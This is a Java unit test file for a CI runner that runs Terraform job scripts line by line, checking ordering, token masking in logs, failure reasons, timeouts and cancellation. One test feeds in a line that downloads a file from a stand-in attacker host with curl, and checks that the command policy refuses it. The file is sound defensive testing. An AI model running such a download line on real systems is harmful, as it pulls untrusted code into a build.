package dev.lambdarunner.job;

import dev.lambdarunner.gitlab.dto.JobStep;
import dev.lambdarunner.sandbox.SandboxResult;
import dev.lambdarunner.sandbox.StopReason;
import dev.lambdarunner.script.CommandPolicy;
import dev.lambdarunner.terraform.TerraformCall;
import dev.lambdarunner.testsupport.FakeTime;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.InstanceOfAssertFactories.type;

/**
 * A job's script as the engine runs it, line by line: what reaches Terraform, where a line fails the job and with
 * which reason and exit code, and that nothing after that line runs. Terraform and time are stood in for.
 */
class StepExecutorTest {

    @TempDir
    Path workDir;

    @Test
    void linesRunInOrder_withWhatExportAndCdLeftBehind() throws Exception {
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.exiting(0));
        Files.createDirectories(job.projectDir.resolve("infra"));

        job.run("export TF_VAR_region=eu-west-1", "cd infra", "terraform init", "terraform plan -out=plan.cache");

        assertThat(job.terraform.commandLines()).containsExactly("init", "plan -out=plan.cache");
        assertThat(job.terraform.calls()).allSatisfy(call -> {
            assertThat(call.tool()).isEqualTo("terraform");
            assertThat(call.workingDir()).isEqualTo(job.projectDir.resolve("infra").toRealPath());
            assertThat(call.environment()).containsEntry("TF_VAR_region", "eu-west-1")
                    .containsEntry("CI_JOB_TOKEN", ScriptRun.JOB_TOKEN);
        });
    }

    @Test
    void aShellVariable_expandsInWords_butIsNotInTerraformsEnvironment() throws Exception {
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.exiting(0));

        job.run("WORKSPACE=staging", "terraform workspace select $WORKSPACE");

        TerraformCall call = job.terraform.calls().get(0);
        assertThat(call.args()).containsExactly("workspace", "select", "staging");
        assertThat(call.environment()).doesNotContainKey("WORKSPACE");
    }

    @Test
    void theLogShowsEachLineAsWritten_neverExpanded() throws Exception {
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.exiting(0));

        job.run("terraform plan -var=token=$CI_JOB_TOKEN");

        assertThat(job.terraform.calls().get(0).args()).containsExactly("plan", "-var=token=" + ScriptRun.JOB_TOKEN);
        assertThat(job.log()).contains("$ terraform plan -var=token=$CI_JOB_TOKEN")
                .doesNotContain(ScriptRun.JOB_TOKEN);
    }

    @Test
    void aFailingProcess_isAScriptFailureWithItsExitCode_andNothingAfterItRuns() {
        ScriptedTerraform terraform = ScriptedTerraform.exitingAt("plan", 3);
        ScriptRun job = new ScriptRun(workDir, terraform);

        assertThatThrownBy(() -> job.run("terraform init", "terraform plan", "terraform apply"))
                .asInstanceOf(type(JobFailure.class)).satisfies(failure -> {
                    assertThat(failure.reason()).isEqualTo(FailureReason.SCRIPT_FAILURE);
                    assertThat(failure.exitCode()).isEqualTo(3);
                    assertThat(failure).hasMessage("exit code 3");
                });
        assertThat(terraform.commandLines()).containsExactly("init", "plan");
    }

    @Test
    void aFailingBuiltin_failsTheJobLikeAProcess() {
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.exiting(0));

        assertThatThrownBy(() -> job.run("echo checking", "[ -n \"$TF_STATE_NAME\" ]", "terraform apply"))
                .asInstanceOf(type(JobFailure.class)).satisfies(failure -> {
                    assertThat(failure.reason()).isEqualTo(FailureReason.SCRIPT_FAILURE);
                    assertThat(failure.exitCode()).isEqualTo(1);
                });
        assertThat(job.terraform.calls()).isEmpty();
        assertThat(job.log()).contains("checking");
    }

    @Test
    void aFailingIfCondition_choosesTheOtherBranch_withoutFailingTheJob() throws Exception {
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.exiting(0));

        job.run("if [ \"$CI_COMMIT_BRANCH\" = main ]; then terraform apply; else terraform plan; fi",
                "terraform output");

        assertThat(job.terraform.commandLines()).containsExactly("plan", "output");
    }

    @ParameterizedTest(name = "{0} is refused when it runs")
    @CsvSource(delimiter = '|', value = {
            "cd ..                      | outside the project directory",
            "cd missing                 | no such directory",
            "terraform -chdir=/etc plan | outside the project directory"})
    void aDirectoryOutsideTheProject_failsTheLineWithTheReason_andNothingAfterItRuns(String line, String reason) {
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.exiting(0));

        assertThatThrownBy(() -> job.run(line, "terraform apply")).asInstanceOf(type(JobFailure.class))
                .satisfies(failure -> {
                    assertThat(failure.reason()).isEqualTo(FailureReason.SCRIPT_FAILURE);
                    assertThat(failure.getMessage()).contains(reason);
                });
        assertThat(job.terraform.calls()).isEmpty();
    }

    @ParameterizedTest(name = "a refused line in {0} fails the job before anything runs")
    @CsvSource({JobStep.SCRIPT, JobStep.AFTER_SCRIPT})
    void aRefusedLineAnywhere_failsTheJobBeforeItsFirstLineRuns(String step) {
        JobStep refused = new JobStep(step, List.of("terraform init", "curl -o tf.zip https://evil.example/tf.zip"),
                0, "always", false);
        JobStep other = new JobStep(step.equals(JobStep.SCRIPT) ? JobStep.AFTER_SCRIPT : JobStep.SCRIPT,
                List.of("terraform show"), 0, "always", false);

        assertThatThrownBy(() -> ScriptPlan.build(ScriptRun.job(refused, other), new CommandPolicy(false)))
                .asInstanceOf(type(JobFailure.class)).satisfies(failure -> {
                    assertThat(failure.reason()).isEqualTo(FailureReason.SCRIPT_FAILURE);
                    assertThat(failure.getMessage()).startsWith(step + ": ")
                            .contains("refused script line 'curl -o tf.zip", "'curl' is not allowed");
                });
    }

    @Test
    void eachProcessMayRunForTheTimeLeft() throws Exception {
        FakeTime time = new FakeTime();
        ScriptedTerraform terraform = new ScriptedTerraform(call -> {
            time.advance(Duration.ofMinutes(10));
            return ScriptedTerraform.ended(0);
        });
        ScriptRun job = new ScriptRun(workDir, terraform, time);

        job.run("terraform init", "terraform plan");

        assertThat(terraform.calls()).extracting(TerraformCall::timeout)
                .containsExactly(ScriptRun.TIMEOUT, ScriptRun.TIMEOUT.minusMinutes(10));
    }

    @Test
    void aProcessStoppedByItsTimeout_isAnExecutionTimeout_namingTheLimit() {
        ScriptRun job = new ScriptRun(workDir, new ScriptedTerraform(call -> ScriptedTerraform.ended(
                new SandboxResult(143, Optional.of(StopReason.TIMEOUT), Duration.ZERO))));

        assertThatThrownBy(() -> job.run("terraform apply", "terraform output")).asInstanceOf(type(JobFailure.class))
                .satisfies(failure -> {
                    assertThat(failure.reason()).isEqualTo(FailureReason.JOB_EXECUTION_TIMEOUT);
                    assertThat(failure.exitCode()).as("the stopped process's exit code is not the job's").isNull();
                    assertThat(failure).hasMessage("execution took longer than allowed, stopped by " + ScriptRun.LIMIT
                            + " at " + job.deadline);
                });
        assertThat(job.terraform.commandLines()).containsExactly("apply");
    }

    @Test
    void aDeadlinePassedDuringALine_stopsTheScriptBeforeTheNext() {
        FakeTime time = new FakeTime();
        ScriptRun late = new ScriptRun(workDir, new ScriptedTerraform(call -> {
            time.advance(ScriptRun.TIMEOUT);
            return ScriptedTerraform.ended(0);
        }), time);

        assertThatThrownBy(() -> late.run("terraform init", "terraform apply")).asInstanceOf(type(JobFailure.class))
                .extracting(JobFailure::reason).isEqualTo(FailureReason.JOB_EXECUTION_TIMEOUT);
        assertThat(late.terraform.commandLines()).containsExactly("init");
    }

    @ParameterizedTest(name = "a stop for {0} ends the running process and the job as {1}")
    @CsvSource({"CANCELED, JOB_CANCELED", "SHUTDOWN, RUNNER_INTERRUPTED", "TIMEOUT, JOB_EXECUTION_TIMEOUT"})
    void aStopWhileAProcessRuns_stopsIt_andMapsToTheFailureReason(StopReason stop, FailureReason reason)
            throws Exception {
        ScriptedTerraform.UntilStopped apply = new ScriptedTerraform.UntilStopped();
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.runningAt("apply", apply));

        CompletableFuture<Optional<JobFailure>> running = job.start("terraform apply", "terraform output");
        apply.awaitStarted();
        job.ctx.stop(stop);

        assertThat(running.get()).get().extracting(JobFailure::reason).isEqualTo(reason);
        assertThat(job.terraform.commandLines()).containsExactly("apply");
    }

    @Test
    void aStopAskedBeforeTheScript_runsNothing() {
        ScriptRun job = new ScriptRun(workDir, ScriptedTerraform.exiting(0));
        job.ctx.stop(StopReason.CANCELED);

        assertThatThrownBy(() -> job.run("echo hello", "terraform init")).asInstanceOf(type(JobFailure.class))
                .extracting(JobFailure::reason).isEqualTo(FailureReason.JOB_CANCELED);
        assertThat(job.terraform.calls()).isEmpty();
        assertThat(job.log()).doesNotContain("hello");
    }
}
